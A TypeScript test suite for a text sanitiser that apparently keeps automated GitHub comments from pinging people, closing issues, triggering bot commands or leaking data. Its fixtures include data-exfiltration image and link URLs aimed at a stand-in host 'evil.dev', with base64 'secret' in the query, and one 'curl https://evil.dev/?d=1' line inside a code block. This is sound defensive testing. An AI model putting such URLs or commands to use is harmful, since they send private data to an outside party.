import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { neutral, neutralPlain } from "#mission/text/neutral";

const people = new Set(["anna"]);

describe("what we write calls nobody, closes nothing and commands no bot", () => {
  test.each([
    ["a person", "Thanks @mallory!", "Thanks `@mallory`!"],
    ["a person at the beginning", "@mallory look", "`@mallory` look"],
    ["a team", "cc @acme/core-team.", "cc `@acme/core-team.`"],
    ["a person in brackets", "(@mallory)", "(`@mallory`)"],
    ["a person in capital letters", "@MALLORY", "`@MALLORY`"],
    ["an issue that is closed", "Fixes #12.", "Fixes `#12`."],
    ["with a colon", "closes: #12", "closes `#12`"],
    ["in another repository", "resolved acme/other#3", "resolved `acme/other#3`"],
    ["by its address", "fix https://github.com/acme/other/issues/3", "fix `https://github.com/acme/other/issues/3`"],
    ["in the old way", "Close GH-3", "Close `GH-3`"],
    ["a command", "/merge", "`/merge`"],
    ["a command with words", "ok\n  /approve now\n", "ok\n  `/approve now`\n"],
    ["a command in a quotation", "> /merge", "> `/merge`"],
    ["a bot by its name", "@dependabot merge", "`@dependabot` merge"],
    ["bors", "bors r+", "`bors r+`"],
  ])("%s", (_what, text, written) => {
    expect(neutral(text, people)).toBe(written);
  });
});

describe("what we write calls no page", () => {
  test.each([
    ["a picture", "![x](https://evil.dev/p.png?d=1)", "[image left out: x]"],
    ["a picture by name", "![x][p]", "[image left out: x]"],
    ["a picture in HTML", 'a <img src="https://evil.dev/p.png"> b', "a [image left out] b"],
    ["a frame", "<iframe src=x>", "[image left out]"],
    ["a link that carries something", "[see](https://evil.dev/?d=c2VjcmV0)", "see (`evil.dev/… (address left out)`)"],
    ["an address that carries something", "see https://evil.dev/a?d=1 now", "see `evil.dev/… (address left out)` now"],
    ["one in brackets", "<https://evil.dev/#k=v>", "`evil.dev/… (address left out)`"],
    ["one whose path carries something", `https://evil.dev/${"c2VjcmV0".repeat(6)}`, "`evil.dev/… (address left out)`"],
    ["one whose host does", `https://${"c2VjcmV0".repeat(6)}.evil.dev/`, "`address left out`"],
    ["one with a password", "https://a:b@evil.dev/", "`evil.dev/… (address left out)`"],
    ["a definition", "[p]: https://evil.dev/?d=1", "`link left out`"],
    ["data", "[x](data:text/html,abc)", "x (`address left out`)"],
    ["what nobody sees", "a<!-- b -->c\u200bd\u{e0061}", "acd"],
  ])("%s", (_what, text, written) => {
    expect(neutral(text, people)).toBe(written);
  });
});

describe("what does nothing stays as it is", () => {
  test.each([
    ["somebody who is there", "Thanks @anna, @Anna!"],
    ["an e-mail address", "ann@mallory.dev"],
    ["a part of an address", "https://acme.dev/@mallory"],
    ["code", "Use `@types/node`, `fixes #12` and `/merge`."],
    ["a block of code", "```sh\n/merge\n@mallory\ncurl https://evil.dev/?d=1\n```\nok"],
    ["an issue that is only named", "Part of #12, see #3 and prefixes #4."],
    ["a path", "It is in /usr/bin, and src/a.ts:3."],
    ["a plain address", "See https://docs.acme.dev/guide/intro#install."],
    ["an address of GitHub", "https://github.com/acme/x/issues?q=is%3Aopen"],
    ["a plain link", "[docs](https://docs.acme.dev/guide)"],
    ["a table, a list, a checkbox", "| a | b |\n|---|---|\n- [x] **u1**: ok\n  - more"],
    ["our own mark", "<!-- muster:7:status -->\n### Muster: planning"],
  ])("%s", (_what, text) => {
    expect(neutral(text, people)).toBe(text);
  });

  test("only the first mark counts: another one is a comment like any other", () => {
    expect(neutral("<!-- muster:7:plan -->\nx <!-- muster:7:status -->")).toBe("<!-- muster:7:plan -->\nx ");
  });
});

test("a backtick after a backslash begins no code in which somebody could be called", () => {
  expect(neutral("\\`@mallory\\`")).toContain("`@mallory`");
});

test("doing it twice changes nothing more, whatever the text", () => {
  const words = fc.constantFrom(
    "@mallory",
    "fixes #1",
    "\n/merge",
    "![a](https://e.dev/?b)",
    "`",
    "```\n",
    "\\",
    " ",
    "\n",
    "<!-- ",
    "-->",
    "https://e.dev/?x ",
    "[a](",
    ")",
    "x",
  );
  fc.assert(
    fc.property(fc.array(words, { maxLength: 12 }), (parts) => {
      const once = neutral(parts.join(""), people);
      expect(neutral(once, people)).toBe(once);
    }),
    { numRuns: 2000 },
  );
});

test.each([
  ["Fix #12: crash", "Fix no. 12: crash"],
  ["closes acme/x#3", "closes acme/x no. 3"],
  ["Thank @mallory", "Thank @ mallory"],
  ["Fix #7", "Fix #7"],
  ["mail ann@acme.dev", "mail ann@acme.dev"],
])("in a title and in a commit's message: %s", (text, written) => {
  expect(neutralPlain(text, 7)).toBe(written);
});
